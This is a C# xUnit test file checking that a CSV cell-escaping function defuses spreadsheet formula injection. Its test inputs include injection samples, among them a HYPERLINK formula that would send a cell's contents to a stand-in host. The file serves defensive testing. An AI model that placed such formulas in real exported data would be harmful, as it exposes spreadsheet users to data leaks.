using Sentinel.Api.Sweeps;
using Xunit;

namespace Sentinel.Api.Tests.Sweeps;

public sealed class CsvTextTests
{
    [Theory]
    [InlineData("fast")]
    [InlineData("fast - slow")]
    [InlineData("a=b")]
    [InlineData("50 % + 1")]
    [InlineData("Länge")]
    [InlineData("")]
    public void A_harmless_text_stays_as_it_is(string text) => Assert.Equal(text, CsvText.Cell(text));

    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-1", "\"'-1\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1", "\"'\t'=1\"")]
    [InlineData("\r=1", "\"'\r'=1\"")]
    [InlineData("\tfast", "\"'\tfast\"")]
    [InlineData("\rfast", "\"'\rfast\"")]
    [InlineData("\nfast", "\"'\nfast\"")]
    [InlineData("  =1", "\"'  =1\"")]
    [InlineData("\u0000=1", "\"'\u0000=1\"")]
    [InlineData("\uFEFF=1", "\"'\uFEFF=1\"")]
    [InlineData("＝1", "\"'＝1\"")]
    [InlineData("＠SUM(A1)", "\"'＠SUM(A1)\"")]
    [InlineData("=HYPERLINK(\"http://x/?\"&A2)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A2)\"")]
    public void A_text_that_begins_like_a_formula_is_quoted_behind_an_apostrophe(string text, string cell) => Assert.Equal(cell, CsvText.Cell(text));

    [Theory]
    [InlineData("x;=1", "\"x;'=1\"")]
    [InlineData("x,-1", "\"x,'-1\"")]
    [InlineData("x\n=1", "\"x\n'=1\"")]
    [InlineData("x\"=1", "\"x\"\"'=1\"")]
    [InlineData("x\t @A1", "\"x\t' @A1\"")]
    public void So_is_one_that_would_be_a_formula_where_another_separator_ends_the_cell_before(string text, string cell) => Assert.Equal(cell, CsvText.Cell(text));

    [Theory]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a;b", "\"a;b\"")]
    [InlineData("say \"go\"", "\"say \"\"go\"\"\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    public void Separators_quotes_and_ends_of_lines_are_quoted(string text, string cell) => Assert.Equal(cell, CsvText.Cell(text));
}
